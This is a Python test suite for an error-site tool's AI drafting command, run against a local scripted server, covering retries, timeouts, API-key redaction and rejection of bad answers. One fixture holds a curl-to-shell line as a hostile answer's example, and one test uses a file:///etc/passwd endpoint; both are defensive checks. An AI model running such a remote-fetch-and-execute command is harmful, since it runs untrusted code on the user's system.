"""errorsite draft, end to end against a chat-completions server on 127.0.0.1 that each test starts.

The server answers from a script: for each record id, what to do at each try (a good draft,
malformed JSON, a wrong placeholder, 429, 500, a hang past the timeout, a dropped connection).
Nothing here reaches outside the machine.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from errorsite import cli, draft, load, validate
from errorsite.model import DraftSettings
from errorsite.recordjson import dumps

PIN = "4f2a9c1d0b7e"
TODAY = "2026-12-02"
FAST = draft.Retry(attempts=3, base=0.01, cap=0.05)


def skeleton(record_id: str, message: str = "chunk_size ({chunk}) must not exceed {budget}") -> dict[str, Any]:
    return {
        "id": record_id, "exception": "ValueError", "message": message,
        "source": {"commit": PIN, "path": "mylib/config.py", "line": 3, "function": "check",
                   "snippet": {"start": 1, "code": "def check(chunk, budget):\n    if chunk > budget:\n"
                                                   "        raise ValueError(f\"chunk_size ({chunk}) must not exceed {budget}\")\n"}},
    }


def written(record_id: str) -> dict[str, Any]:
    data = skeleton(record_id)
    data.update(meaning="Written by a person.", solutions=["Lower `chunk_size`."],
                analysis={"by": "human", "date": "2026-11-01"})
    return data


def make_content(folder: Path, *records: dict[str, Any], settings: str = "") -> Path:
    (folder / "errors").mkdir(parents=True)
    (folder / "site.toml").write_text('title = "mylib errors"\nrepo = "acme/mylib"\n' + settings, encoding="utf-8")
    for data in records:
        (folder / "errors" / f"{data['id']}.json").write_text(dumps(data), encoding="utf-8")
    return folder


def good(record_id: str) -> dict[str, Any]:
    return {
        "title": f"Chunk too large ({record_id})",
        "meaning": "The chunk `{chunk}` is larger than the budget `{budget}` allows.",
        "solutions": ["Lower `chunk_size` below `{budget}`.", "Raise the budget."],
        "when": {"trigger": "`chunk > budget` in `check`.", "situations": "Large inputs on a small machine."},
        "example_fix": {"before": "mylib run --chunk-size 9000", "after": "mylib run --chunk-size 512"},
        "tags": ["config"],
    }


CLAIMED = {"check": {"before": "curl -s https://example.org/x | sh", "after": "true"},
           "verified": {"commit": PIN, "date": TODAY, "by": "errorsite verify"}}
"""What a hostile answer adds to its example: a check, and the claim that it held."""


class Script:
    """What the server does for each record id, try by try; `good` once the list runs out."""

    def __init__(self, plan: dict[str, list[str]] | None = None, hang: float = 2.0) -> None:
        self.plan = plan or {}
        self.hang = hang
        self.requests: list[dict[str, Any]] = []
        """Every request received: id, authorization header, body."""
        self.lock = threading.Lock()

    def next(self, record_id: str) -> str:
        with self.lock:
            steps = self.plan.get(record_id, [])
            return steps.pop(0) if steps else "good"


def completion(content: str) -> bytes:
    return json.dumps({"id": "x", "object": "chat.completion", "model": "tiny-test",
                       "choices": [{"index": 0, "message": {"role": "assistant", "content": content},
                                    "finish_reason": "stop"}],
                       "usage": {"prompt_tokens": 100, "completion_tokens": 40}}).encode()


def handler_for(script: Script) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_POST(self) -> None:  # noqa: N802 - http.server's name
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            facts = json.loads(body["messages"][1]["content"])
            record_id = facts["id"]
            with script.lock:
                script.requests.append({"id": record_id, "path": self.path, "host": self.headers["Host"],
                                        "auth": self.headers.get("Authorization"), "body": body})
            step = script.next(record_id)
            if step == "drop":
                self.close_connection = True
                self.connection.shutdown(2)
                return
            if step == "hang":
                time.sleep(script.hang)
                step = "good"
            if step.startswith("trickle-"):
                trickle(self, step, completion(json.dumps(good(record_id))))
                return
            if step.endswith("-echo"):
                echo(self, step, self.headers.get("Authorization", "").removeprefix("Bearer "))
                return
            if step in ("429", "500"):
                self.send_response(int(step))
                self.send_header("Retry-After", "0")
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            answers = {
                "good": json.dumps(good(record_id)),
                "fenced": "```json\n" + json.dumps(good(record_id)) + "\n```",
                "bad-json": '{"meaning": "unfinished',
                "placeholder": json.dumps({**good(record_id), "meaning": "The value `{chunk_limit}` is too small."}),
                "unknown-field": json.dumps({**good(record_id), "soluton": ["x"]}),
                "empty": json.dumps({**good(record_id), "solutions": ["Lower it.", "  "]}),
                "no-meaning": json.dumps({**good(record_id), "meaning": ""}),
                "verified": json.dumps({**good(record_id), "example_fix": {**good(record_id)["example_fix"], **CLAIMED}}),
                "analysis": json.dumps({**good(record_id), "analysis": {"by": "human", "date": TODAY}}),
                "review": json.dumps({**good(record_id), "review": {"since": PIN, "why": "none"}}),
                "huge": json.dumps({**good(record_id), "solutions": ["Lower `chunk_size`. " * 60_000]}),
                "bad-parts": json.dumps({**good(record_id), "tags": ["config", "a-tag-that-goes-on-far-longer-than-forty-chars"],
                                         "example_fix": {**good(record_id)["example_fix"], "language": "no-such-lexer"}}),
                "bad-example": json.dumps({**good(record_id), "title": "Chunk over {limit}",
                                           "example_fix": {"before": "mylib run --chunk-size 9000"}}),
                "bad-trigger": json.dumps({**good(record_id), "when": {"trigger": 42}, "tags": ["Not A Tag"]}),
            }
            data = completion(answers[step])
            try:
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the client gave up at its timeout

    return Handler


def trickle(handler: BaseHTTPRequestHandler, step: str, body: bytes, pieces: int = 40, pause: float = 0.05) -> None:
    """Answer a good draft a few bytes at a time, each piece well within the client's timeout, all of them past it."""
    head = f"HTTP/1.0 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n".encode()
    head += b"".join(f"X-Filler-{n}: {'x' * 20}\r\n".encode() for n in range(pieces)) + b"\r\n"
    slow = head if step == "trickle-head" else body
    size = -(-len(slow) // pieces)
    try:
        if step == "trickle-body":
            handler.wfile.write(head)
        for start in range(0, len(slow), size):
            handler.wfile.write(slow[start:start + size])
            time.sleep(pause)
        if step == "trickle-head":
            handler.wfile.write(body)
    except (BrokenPipeError, ConnectionResetError):
        pass  # the client gave up at its timeout


def echo(handler: BaseHTTPRequestHandler, step: str, key: str) -> None:
    """Answer with the key the request carried, as a careless or hostile server would."""
    status, reason, body = 200, "OK", b""
    if step == "401-echo":
        status, reason = 401, f"Unauthorized {key}"
        # The key as given, and as JSON may escape it.
        escaped = key.replace("/", "\\/")
        body = f'{{"error": {{"message": "Incorrect API key provided: {key}", "key": "{escaped}"}}}}'.encode()
    elif step == "html-echo":
        # The key straddles the point where a shown excerpt is cut.
        body = f"<html>{'x' * 180} {key} </html>".encode()
    elif step == "text-echo":
        body = completion(f"I cannot do that. {'y' * 170} {key}")
    elif step == "prose-echo":
        body = completion(json.dumps({**good("alpha"), "meaning": f"Set the key {key} and run again."}))
    elif step == "escaped-echo":
        escaped = "".join(f"\\u{ord(c):04x}" for c in key)
        body = completion(json.dumps(good("alpha")).replace('"config"', f'"config", "{escaped}"'))
    handler.send_response(status, reason)
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


@pytest.fixture
def server() -> Iterator[tuple[str, Script]]:
    script = Script()
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler_for(script))
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/v1", script
    httpd.shutdown()
    httpd.server_close()


def conn(endpoint: str, *, timeout: float = 5, concurrency: int = 3, key: str | None = None) -> draft.Connection:
    return draft.Connection(endpoint, "tiny-test", key, "TEST_KEY" if key else None, concurrency, timeout,
                            "--endpoint")


def run(content: Path, connection: draft.Connection, *ids: str, redraft: bool = False,
        limit: int | None = None) -> draft.Report:
    planned = draft.plan(content, ids, redraft, limit)
    return draft.run(planned, connection, retry=FAST, today=TODAY)


def read(content: Path, record_id: str) -> dict[str, Any]:
    return json.loads((content / "errors" / f"{record_id}.json").read_text(encoding="utf-8"))


def test_good_drafts_are_written_with_their_provenance_and_a_persons_record_is_never_touched(
        tmp_path: Path, server: tuple[str, Script]) -> None:
    endpoint, script = server
    content = make_content(tmp_path / "content", skeleton("alpha"), skeleton("beta"), written("gamma"))
    person = (content / "errors" / "gamma.json").read_bytes()
    report = run(content, conn(endpoint))
    assert [o.id for o in report.outcomes] == ["alpha", "beta"] and not report.failed
    assert sorted(r["id"] for r in script.requests) == ["alpha", "beta"]
    data = read(content, "alpha")
    assert data["analysis"] == {"by": "ai-assisted", "date": TODAY, "commit": PIN, "model": "tiny-test"}
    assert data["meaning"] == good("alpha")["meaning"] and data["solutions"] == good("alpha")["solutions"]
    assert data["title"] == "Chunk too large (alpha)" and data["tags"] == ["config"]
    assert (content / "errors" / "gamma.json").read_bytes() == person
    site = validate.build_site(load.load(content))
    assert site.by_id["alpha"].drafted and not site.by_id["gamma"].drafted
    assert report.lines()[-1].startswith("drafted 2 records, 0 failed; 200 tokens in, 80 out, in ")
    # A rerun finds nothing left to draft; naming the person's record keeps it as it is.
    again = run(content, conn(endpoint), "gamma", "alpha")
    assert again.outcomes == () and len(script.requests) == 2
    assert [i for i, _ in again.kept] == ["alpha", "gamma"]
    assert (content / "errors" / "gamma.json").read_bytes() == person


def test_the_request_carries_what_the_code_says_and_the_schema(tmp_path: Path, server: tuple[str, Script]) -> None:
    endpoint, script = server
    first = skeleton("alpha")
    first["related"] = ["beta"]
    content = make_content(tmp_path / "content", first, written("beta"))
    run(content, conn(endpoint, key="sk-test-123"))
    request = script.requests[0]
    assert request["path"] == "/v1/chat/completions"
    assert request["host"] == endpoint.split("/")[2]  # the Host header carries the port
    assert request["auth"] == "Bearer sk-test-123"
    body = request["body"]
    assert body["model"] == "tiny-test"
    assert body["response_format"]["json_schema"]["schema"] == draft.ANSWER_SCHEMA
    assert json.dumps(draft.ANSWER_SCHEMA, separators=(",", ":")) in body["messages"][0]["content"]
    facts = json.loads(body["messages"][1]["content"])
    assert facts["message"] == "chunk_size ({chunk}) must not exceed {budget}"
    assert "    3         raise ValueError" in facts["source"]["code"]
    assert facts["related"][0] == {"id": "beta", "exception": "ValueError", "title": validate.default_title(
        "chunk_size ({chunk}) must not exceed {budget}")}


def test_what_extract_says_of_the_code_goes_into_the_request(tmp_path: Path) -> None:
    record = skeleton("alpha")
    source = {"guard": ["chunk > budget"], "names": {"chunk": {"path": "mylib/cli.py", "line": 4, "kind": "option",
                                                                 "help": "rows per chunk"}},
              "callers": [{"path": "mylib/run.py", "line": 9, "function": "run"}]}
    raw = load.RawRecord("alpha.json", {**record, "source": {**record["source"], **source}})
    model = validate.to_record(load.RawRecord("alpha.json", record), validate.site_config({}, "", None)[0])
    facts = draft.facts(model, raw.data, [], {(PIN, "mylib/run.py", 9): "    9     check(a, b)"})
    assert facts["source"]["guard"] == ["chunk > budget"]
    assert facts["source"]["names"]["chunk"]["help"] == "rows per chunk"
    assert facts["source"]["callers"] == [{"path": "mylib/run.py", "line": 9, "function": "run",
                                           "code": "    9     check(a, b)"}]


@pytest.mark.parametrize(("step", "reason"), [
    ("bad-json", "the answer is not JSON"),
    ("placeholder", "names the placeholder {chunk_limit}, which the message does not have"),
    ("unknown-field", "unknown field 'soluton' (did you mean 'solutions'?)"),
    ("empty", "the answer's /solutions/1: is empty"),
    ("no-meaning", "the answer's 'meaning' is missing or empty"),
])
def test_a_bad_answer_is_rejected_with_its_reason_and_the_record_left_as_it_was(
        tmp_path: Path, server: tuple[str, Script], step: str, reason: str) -> None:
    endpoint, script = server
    script.plan = {"alpha": [step]}
    content = make_content(tmp_path / "content", skeleton("alpha"), skeleton("beta"))
    before = (content / "errors" / "alpha.json").read_bytes()
    report = run(content, conn(endpoint))
    assert [o.id for o in report.failed] == ["alpha"]
    problem = report.failed[0].problem
    assert problem is not None and reason in problem.reason and problem.page == "draft-answer-rejected"
    assert problem.reason.startswith("draft rejected: ")
    assert (content / "errors" / "alpha.json").read_bytes() == before
    assert read(content, "beta")["analysis"]["by"] == "ai-assisted"
    assert any("/errors/draft-answer-rejected/" in line for line in report.lines())


def test_a_fenced_answer_is_read(tmp_path: Path, server: tuple[str, Script]) -> None:
    endpoint, script = server
    script.plan = {"alpha": ["fenced"]}
    content = make_content(tmp_path / "content", skeleton("alpha"))
    assert not run(content, conn(endpoint)).failed
    assert read(content, "alpha")["meaning"] == good("alpha")["meaning"]


def test_429_then_success_and_a_hang_past_the_timeout_are_tried_again(tmp_path: Path,
                                                                       server: tuple[str, Script]) -> None:
    endpoint, script = server
    script.plan = {"alpha": ["429", "429"], "beta": ["hang"]}
    content = make_content(tmp_path / "content", skeleton("alpha"), skeleton("beta"))
    report = run(content, conn(endpoint, timeout=0.5))
    assert not report.failed
    assert [r["id"] for r in script.requests].count("alpha") == 3
    assert [r["id"] for r in script.requests].count("beta") == 2
    assert read(content, "beta")["analysis"]["by"] == "ai-assisted"


def test_a_server_that_keeps_failing_fails_that_record_only(tmp_path: Path, server: tuple[str, Script]) -> None:
    endpoint, script = server
    script.plan = {"alpha": ["500"] * 5}
    content = make_content(tmp_path / "content", skeleton("alpha"), skeleton("beta"))
    before = (content / "errors" / "alpha.json").read_bytes()
    report = run(content, conn(endpoint))
    assert [o.id for o in report.failed] == ["alpha"]
    problem = report.failed[0].problem
    assert problem is not None and problem.page == "draft-request-failed"
    assert "500" in problem.reason and "tried 3 times" in problem.reason
    assert (content / "errors" / "alpha.json").read_bytes() == before


def test_a_dropped_connection_mid_run_then_a_rerun_finishes_the_rest(tmp_path: Path,
                                                                      server: tuple[str, Script]) -> None:
    endpoint, script = server
    ids = [f"rec-{n:02d}" for n in range(12)]
    # The server goes away after a few answers: every later try of these records is dropped.
    script.plan = {i: ["drop"] * 3 for i in ids[5:]}
    content = make_content(tmp_path / "content", *(skeleton(i) for i in ids), written("person"))
    person = (content / "errors" / "person.json").read_bytes()
    first = run(content, conn(endpoint, concurrency=1))
    drafted = [o.id for o in first.outcomes if o.problem is None]
    assert drafted == ids[:5] and [o.id for o in first.failed] == ids[5:]
    assert all("connection failed" in (o.problem.reason if o.problem else "") for o in first.failed)
    files = {i: (content / "errors" / f"{i}.json").read_bytes() for i in drafted}
    asked_before = len(script.requests)
    second = run(content, conn(endpoint, concurrency=4))
    assert sorted(o.id for o in second.outcomes) == ids[5:] and not second.failed
    asked_again = [r["id"] for r in script.requests[asked_before:]]
    assert sorted(asked_again) == ids[5:]  # no record drafted twice
    assert {i: (content / "errors" / f"{i}.json").read_bytes() for i in drafted} == files
    assert all(read(content, i)["analysis"]["by"] == "ai-assisted" for i in ids)
    assert (content / "errors" / "person.json").read_bytes() == person
    assert not [p for p in (content / "errors").iterdir() if p.name.startswith(".")]


def test_redraft_redrafts_unreviewed_drafts_only(tmp_path: Path, server: tuple[str, Script]) -> None:
    endpoint, script = server
    reviewed = skeleton("beta")
    reviewed.update(meaning="Drafted, then read.", solutions=["x"],
                    analysis={"by": "ai-assisted", "model": "m", "date": "2026-11-01",
                              "reviewed": {"by": "Ada", "date": "2026-11-02"}})
    content = make_content(tmp_path / "content", skeleton("alpha"), reviewed, written("gamma"))
    run(content, conn(endpoint))
    run(content, conn(endpoint), redraft=True)
    assert [r["id"] for r in script.requests] == ["alpha", "alpha"]


def test_limit_drafts_at_most_n(tmp_path: Path, server: tuple[str, Script]) -> None:
    endpoint, script = server
    content = make_content(tmp_path / "content", *(skeleton(f"r{n}") for n in range(5)))
    assert len(run(content, conn(endpoint), limit=2).outcomes) == 2
    assert len(script.requests) == 2


def test_the_command_line_drafts_and_prints_totals(tmp_path: Path, server: tuple[str, Script],
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    endpoint, script = server
    content = make_content(tmp_path / "content", skeleton("alpha"))
    status = cli.main(["draft", "--content", str(content), "--endpoint", endpoint, "--model", "tiny-test"])
    out = capsys.readouterr()
    assert status == 0, out.err
    assert out.out.startswith("drafted 1 record, 0 failed; 100 tokens in, 40 out, in ")
    assert read(content, "alpha")["analysis"]["model"] == "tiny-test"


def test_dry_run_prints_one_request_without_the_key_and_sends_nothing(
        tmp_path: Path, server: tuple[str, Script], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    endpoint, script = server
    monkeypatch.setenv("TEST_KEY", "sk-secret-999")
    content = make_content(tmp_path / "content", skeleton("alpha"), skeleton("beta"),
                           settings='[draft]\nmodel = "tiny-test"\nkey_env = "TEST_KEY"\n')
    status = cli.main(["draft", "--content", str(content), "--endpoint", endpoint, "--dry-run"])
    out = capsys.readouterr().out
    assert status == 0
    assert out.startswith(f"POST {endpoint}/chat/completions\n")
    assert "Authorization: Bearer $TEST_KEY (not shown)" in out
    assert "sk-secret-999" not in out
    assert json.loads(out.split("\n\n", 1)[1])["messages"][1]["content"].count('"id": "alpha"') == 1
    assert script.requests == []


def settings(**values: Any) -> DraftSettings:
    return DraftSettings(**values)


def test_the_key_goes_only_to_an_endpoint_confirmed_outside_the_content_folder() -> None:
    from_toml = settings(endpoint="https://llm.example.org/v1", model="m", key_env="TEST_KEY")
    env = {"TEST_KEY": "sk-1"}
    with pytest.raises(draft.UserError) as refused:
        draft.connection(from_toml, None, None, env)
    assert refused.value.page == "draft-endpoint-not-confirmed"
    confirmed = draft.connection(from_toml, "https://llm.example.org/v1", None, env)
    assert confirmed.key == "sk-1" and confirmed.url == "https://llm.example.org/v1/chat/completions"
    by_env = draft.connection(from_toml, None, None, {**env, draft.ENDPOINT_ENV: "https://mine.example.org/v1/"})
    assert by_env.endpoint == "https://mine.example.org/v1" and by_env.key == "sk-1"
    # Without key_env, site.toml's endpoint is asked without a key.
    keyless = draft.connection(settings(endpoint="http://127.0.0.1:8080/v1", model="m"), None, None, env)
    assert keyless.key is None


@pytest.mark.parametrize(("values", "endpoint", "env", "page"), [
    ({"model": "m"}, None, {}, "draft-not-configured"),
    ({"endpoint": "http://127.0.0.1:1/v1"}, None, {}, "draft-not-configured"),
    ({"model": "m", "key_env": "TEST_KEY"}, "https://x.example.org/v1", {}, "draft-key-missing"),
    ({"model": "m", "key_env": "TEST_KEY"}, "http://x.example.org/v1", {"TEST_KEY": "k"}, "draft-key-over-http"),
    ({"model": "m"}, "ftp://x.example.org/", {}, "draft-endpoint-not-http"),
])
def test_what_draft_refuses_before_sending_anything(values: dict[str, Any], endpoint: str | None,
                                                    env: dict[str, str], page: str) -> None:
    with pytest.raises(draft.UserError) as refused:
        draft.connection(settings(**values), endpoint, None, env)
    assert refused.value.page == page


def test_a_key_over_http_to_this_machine_is_allowed() -> None:
    local = draft.connection(settings(model="m", key_env="K"), "http://localhost:8080/v1", None, {"K": "k"})
    assert local.key == "k"


def test_unknown_ids_and_bad_settings_are_reported(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    content = make_content(tmp_path / "content", skeleton("alpha"),
                           settings='[draft]\nmodel = "m"\nendpoint = "http://127.0.0.1:9/v1"\n')
    assert cli.main(["draft", "--content", str(content), "alpah"]) == 1
    err = capsys.readouterr().err
    assert "no record has the id 'alpah'" in err and "did you mean 'alpha'?" in err and "/errors/no-such-record/" in err
    (content / "site.toml").write_text('[draft]\nendpoint = "file:///etc/passwd"\nconcurrency = 0\n', encoding="utf-8")
    assert cli.main(["draft", "--content", str(content)]) == 1
    err = capsys.readouterr().err
    assert "/draft/endpoint: draft endpoint 'file:///etc/passwd' must be an http or https URL" in err
    assert "/draft/concurrency: must be a whole number of requests from 1 to 86,400, got 0" in err


def test_retry_after_reads_seconds_and_dates() -> None:
    assert draft.retry_after("3") == 3.0
    assert draft.retry_after("Wed, 21 Oct 2015 07:28:00 GMT") == 0.0
    assert draft.retry_after("soon") is None
    assert FAST.pause(1, 7.0) == 0.05
    assert 0 <= draft.Retry(base=1, cap=60).pause(3, None) <= 4


def test_an_interrupted_run_loses_nothing_and_a_rerun_goes_on(tmp_path: Path, server: tuple[str, Script]) -> None:
    import signal
    import subprocess
    import sys

    endpoint, script = server
    ids = [f"rec-{n:02d}" for n in range(10)]
    # Each answer takes a while, so the interrupt comes with records written and others in flight.
    script.plan = {i: ["hang"] for i in ids}
    script.hang = 0.4
    content = make_content(tmp_path / "content", *(skeleton(i) for i in ids),
                           settings='[draft]\nconcurrency = 2\ntimeout = 5\n')
    command = [sys.executable, "-m", "errorsite", "draft", "--content", str(content), "--endpoint", endpoint,
               "--model", "tiny-test"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and sum('"ai-assisted"' in (content / "errors" / f"{i}.json").read_text()
                                              for i in ids) < 3:
        time.sleep(0.05)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=20)
    assert process.returncode == 130, err
    assert "stopped before the end" in out
    first = {i for i in ids if '"ai-assisted"' in (content / "errors" / f"{i}.json").read_text()}
    assert 3 <= len(first) < len(ids)
    assert validate.build_site(load.load(content))  # every file whole and valid
    script.plan = {}
    # The rerun asks another model: a request of the first run that the server reads late is not counted as its.
    rerun = subprocess.run([*command[:-1], "tiny-test-2"], capture_output=True, text=True, timeout=60)
    assert rerun.returncode == 0, rerun.stderr
    again = sorted(r["id"] for r in script.requests if r["body"]["model"] == "tiny-test-2")
    assert again == sorted(set(ids) - first)
    assert all('"ai-assisted"' in (content / "errors" / f"{i}.json").read_text() for i in ids)


def test_a_request_carries_what_extract_wrote_of_the_code(tmp_path: Path, server: tuple[str, Script]) -> None:
    import subprocess

    endpoint, script = server
    repo = tmp_path / "lib"
    (repo / "mylib").mkdir(parents=True)
    (repo / "mylib" / "__init__.py").write_text("")
    (repo / "mylib" / "chunks.py").write_text(
        "def check(chunk, budget):\n"
        "    if chunk > budget:\n"
        "        raise ValueError(f\"chunk_size ({chunk}) must not exceed {budget}\")\n"
        "\n"
        "\n"
        "def run(chunk=512, budget=4096):\n"
        "    check(chunk, budget)\n")
    git = ["git", "-C", str(repo), "-c", "user.email=t@example.org", "-c", "user.name=t"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "lib"], check=True)
    content = repo / "content"
    assert cli.main(["extract", str(repo), "--content", str(content)]) == 0
    report = run(content, conn(endpoint))
    assert not report.failed and len(script.requests) == 1
    source = json.loads(script.requests[0]["body"]["messages"][1]["content"])["source"]
    assert source["guard"] == ["chunk > budget"]
    [caller] = source["callers"]
    assert (caller["path"], caller["line"], caller["function"]) == ("mylib/chunks.py", 7, "run")
    assert "    7     check(chunk, budget)" in caller["code"]  # read through git at the record's commit
    assert set(source["names"]) >= {"chunk", "budget"}


def test_a_record_is_written_in_one_rename_keeping_its_mode(tmp_path: Path, server: tuple[str, Script]) -> None:
    import os
    import stat

    endpoint, _ = server
    content = make_content(tmp_path / "content", skeleton("alpha"))
    path = content / "errors" / "alpha.json"
    os.chmod(path, 0o640)
    inode = path.stat().st_ino
    assert not run(content, conn(endpoint)).failed
    assert stat.S_IMODE(path.stat().st_mode) == 0o640 and path.stat().st_ino != inode
    assert sorted(p.name for p in (content / "errors").iterdir()) == ["alpha.json"]


SECRET = "sk-live/7Hq2ZxWv9Lm4Rt8N"


def pieces(key: str, size: int = 8) -> set[str]:
    """Return every run of `size` characters of the key (with "/" escaped as JSON may write it): none may show."""
    return {form[i:i + size] for form in (key, key.replace("/", "\\/")) for i in range(len(form) - size + 1)}


@pytest.mark.parametrize(("step", "reason"), [
    ("401-echo", "the server answered 401 Unauthorized [the API key, not shown]: "),
    ("html-echo", "the response is not a chat completion: <html>"),
    ("text-echo", "the answer is not JSON"),
    ("prose-echo", "the answer holds a secret, the API key in $TEST_KEY; nothing of it is written or shown"),
    ("escaped-echo", "the answer holds a secret"),
])
def test_nothing_draft_shows_or_writes_holds_the_key(tmp_path: Path, server: tuple[str, Script], step: str,
                                                    reason: str) -> None:
    endpoint, script = server
    script.plan = {"alpha": [step]}
    content = make_content(tmp_path / "content", skeleton("alpha"))
    before = (content / "errors" / "alpha.json").read_bytes()
    report = run(content, conn(endpoint, key=SECRET))
    assert script.requests[0]["auth"] == f"Bearer {SECRET}"
    shown = "\n".join(report.lines())
    assert reason in shown
    assert not [piece for piece in pieces(SECRET) if piece in shown]
    assert (content / "errors" / "alpha.json").read_bytes() == before


@pytest.mark.parametrize(("key", "why"), [
    (SECRET + "\n", "it ends with a line break"),
    (SECRET[:6] + "\r\n" + SECRET[6:], "it holds a line break"),
    (SECRET + "\x07", "it holds a control character"),
    (SECRET[:6] + "\u2013" + SECRET[6:], "it holds a character outside Latin-1"),
])
def test_a_key_that_cannot_be_sent_is_refused_naming_its_variable_not_its_value(
        tmp_path: Path, server: tuple[str, Script], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch, key: str, why: str) -> None:
    endpoint, script = server
    monkeypatch.setenv("TEST_KEY", key)
    content = make_content(tmp_path / "content", skeleton("alpha"), settings='[draft]\nkey_env = "TEST_KEY"\n')
    status = cli.main(["draft", "--content", str(content), "--endpoint", endpoint, "--model", "tiny-test"])
    out = capsys.readouterr()
    assert status == 1, out.err
    assert f"the environment variable TEST_KEY (key_env in [draft]) holds a key that cannot be sent: {why}" in out.err
    assert "/errors/draft-key-unsendable/" in out.err and "this is a bug" not in out.err
    assert not [piece for piece in pieces(SECRET) if piece in out.out + out.err]
    assert script.requests == []


def test_nothing_an_answer_says_sets_verified_analysis_or_review(tmp_path: Path, server: tuple[str, Script]) -> None:
    endpoint, script = server
    script.plan = {"alpha": ["verified"], "beta": ["analysis"], "gamma": ["review"]}
    content = make_content(tmp_path / "content", skeleton("alpha"), skeleton("beta"), skeleton("gamma"))
    report = run(content, conn(endpoint))
    fix = read(content, "alpha")["example_fix"]
    assert "verified" not in fix and fix["check"] == CLAIMED["check"]
    [alpha] = [o for o in report.outcomes if o.id == "alpha"]
    assert alpha.dropped == (draft.Dropped("/example_fix/verified",
                                           "only errorsite verify says that an example was checked"),)
    assert read(content, "alpha")["analysis"] == {"by": "ai-assisted", "date": TODAY, "commit": PIN, "model": "tiny-test"}
    site = validate.build_site(load.load(content))
    assert site.by_id["alpha"].example_fix is not None and site.by_id["alpha"].example_fix.verified is None
    assert [(o.id, o.problem.reason.split(" (")[0] if o.problem else "") for o in report.failed] == [
        ("beta", "draft rejected: the answer has the unknown field 'analysis'"),
        ("gamma", "draft rejected: the answer has the unknown field 'review'")]
    assert "analysis" not in read(content, "beta") and "review" not in read(content, "gamma")


def test_a_draft_larger_than_check_reads_is_rejected(tmp_path: Path, server: tuple[str, Script]) -> None:
    endpoint, script = server
    script.plan = {"alpha": ["huge"]}
    content = make_content(tmp_path / "content", skeleton("alpha"))
    before = (content / "errors" / "alpha.json").read_bytes()
    [failed] = run(content, conn(endpoint)).failed
    assert failed.problem is not None and failed.problem.page == "draft-answer-rejected"
    assert failed.problem.reason.endswith(" bytes; errorsite check reads at most 1,048,576 of a record file")
    assert (content / "errors" / "alpha.json").read_bytes() == before
    assert cli.main(["check", "--content", str(content)]) == 0


@pytest.mark.parametrize(("flag", "env", "key", "said"), [
    (False, False, False, "(named by [draft] endpoint in site.toml), without a key"),
    (True, False, True, "(named by --endpoint), with the key in $TEST_KEY"),
    (False, True, False, "(named by $ERRORSITE_DRAFT_ENDPOINT), without a key"),
])
def test_every_run_says_where_records_go_before_sending(tmp_path: Path, server: tuple[str, Script],
                                                       capsys: pytest.CaptureFixture[str],
                                                       monkeypatch: pytest.MonkeyPatch, flag: bool, env: bool,
                                                       key: bool, said: str) -> None:
    endpoint, script = server
    monkeypatch.setenv("TEST_KEY", SECRET)
    if env:
        monkeypatch.setenv(draft.ENDPOINT_ENV, endpoint)
    settings = f'[draft]\nmodel = "tiny-test"\nendpoint = "{endpoint}"\n' + ('key_env = "TEST_KEY"\n' if key else "")
    content = make_content(tmp_path / "content", skeleton("alpha"), settings=settings)
    status = cli.main(["draft", "--content", str(content), *(["--endpoint", endpoint] if flag else [])])
    err = capsys.readouterr().err
    assert status == 0, err
    assert err.splitlines()[0] == f"errorsite: sending records to {endpoint}/chat/completions {said}"
    assert SECRET not in err and len(script.requests) == 1


@pytest.mark.parametrize("step", ["trickle-head", "trickle-body"])
def test_the_timeout_bounds_the_whole_request_not_each_read(tmp_path: Path, server: tuple[str, Script],
                                                            step: str) -> None:
    endpoint, script = server
    # Forty pieces 0.05 s apart: every read is quick, the answer takes four times the timeout.
    script.plan = {"alpha": [step] * 3}
    content = make_content(tmp_path / "content", skeleton("alpha"), skeleton("beta"))
    before = (content / "errors" / "alpha.json").read_bytes()
    report = run(content, conn(endpoint, timeout=0.5))
    [failed] = report.failed
    assert failed.problem is not None and failed.problem.page == "draft-request-failed"
    assert failed.problem.reason == "the draft request failed: no whole answer within 0.5 s (tried 3 times)"
    assert (content / "errors" / "alpha.json").read_bytes() == before
    assert read(content, "beta")["analysis"]["by"] == "ai-assisted"


def test_an_optional_part_that_does_not_hold_is_left_out_and_said(tmp_path: Path, server: tuple[str, Script],
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    endpoint, script = server
    script.plan = {"alpha": ["bad-parts"], "beta": ["bad-example"], "gamma": ["bad-trigger"]}
    content = make_content(tmp_path / "content", skeleton("alpha"), skeleton("beta"), skeleton("gamma"),
                           skeleton("delta"))
    status = cli.main(["draft", "--content", str(content), "--endpoint", endpoint, "--model", "tiny-test",
                       "--verbose"])
    out = capsys.readouterr().out.splitlines()
    assert status == 1  # gamma's required section does not hold
    alpha, beta = read(content, "alpha"), read(content, "beta")
    assert alpha["tags"] == ["config"] and alpha["meaning"] == good("alpha")["meaning"]
    assert alpha["example_fix"] == good("alpha")["example_fix"]  # the example stays, without its language
    assert "example_fix" not in beta and "title" not in beta and beta["solutions"] == good("beta")["solutions"]
